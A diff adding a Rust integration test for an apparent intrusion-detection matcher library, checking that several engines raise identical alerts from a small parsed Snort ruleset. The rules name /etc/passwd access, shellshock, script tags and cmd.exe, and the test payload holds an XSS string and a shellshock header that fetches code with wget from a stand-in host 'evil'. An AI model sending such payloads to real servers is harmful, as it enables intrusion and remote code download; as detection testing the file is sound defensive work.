@@ -1,0 +1,49 @@
+//! Integration test: from Snort rule text all the way to alerts, using the
+//! rule parser instead of the synthetic generators.
+
+use vpatch_suite::prelude::*;
+use vpatch_suite::patterns::snort::{parse_rules, ParseOptions};
+
+const RULES: &str = r#"
+# A miniature web ruleset in Snort syntax.
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"ETC PASSWD access"; content:"/etc/passwd"; sid:1000001;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"shellshock"; content:"() { :;};"; sid:1000002;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"XSS"; content:"<script>"; nocase; sid:1000003;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"cmd exe"; content:"cmd.exe"; sid:1000004;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 445 (msg:"binary blob"; content:"|de ad be ef|"; sid:1000005;)
+alert tcp $HOME_NET any -> $EXTERNAL_NET 25 (msg:"mail probe"; content:"VRFY root"; sid:1000006;)
+"#;
+
+#[test]
+fn parsed_ruleset_drives_all_engines_identically() {
+    let rules = parse_rules(RULES, ParseOptions::default()).expect("rules parse");
+    assert_eq!(rules.len(), 6);
+
+    // The HTTP selection keeps the web rules and drops the SMB/SMTP ones.
+    let http = rules.select_group(ProtocolGroup::Http);
+    assert_eq!(http.len(), 4);
+
+    let mut payload = Vec::new();
+    payload.extend_from_slice(b"GET /index.php?q=<script>alert(1)</script> HTTP/1.1\r\n");
+    payload.extend_from_slice(b"User-Agent: () { :;}; wget http://evil/x -O /tmp/cmd.exe\r\n\r\n");
+    payload.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef]);
+    payload.extend_from_slice(b" ... /etc/passwd ... VRFY root\r\n");
+
+    let reference = NaiveMatcher::new(&rules).find_all(&payload);
+    assert_eq!(reference.len(), 6, "every rule should fire exactly once");
+
+    let engines: Vec<Box<dyn Matcher + Send + Sync>> = vec![
+        Box::new(DfaMatcher::build(&rules)),
+        Box::new(Dfc::build(&rules)),
+        Box::new(SPatch::build(&rules)),
+        build_auto(&rules),
+    ];
+    for engine in engines {
+        assert_eq!(engine.find_all(&payload), reference, "{}", engine.name());
+    }
+
+    // The HTTP-only selection must not fire the SMB/SMTP signatures.
+    let http_engine = build_auto(&http);
+    let http_alerts = http_engine.find_all(&payload);
+    assert_eq!(http_alerts.len(), 4);
+}
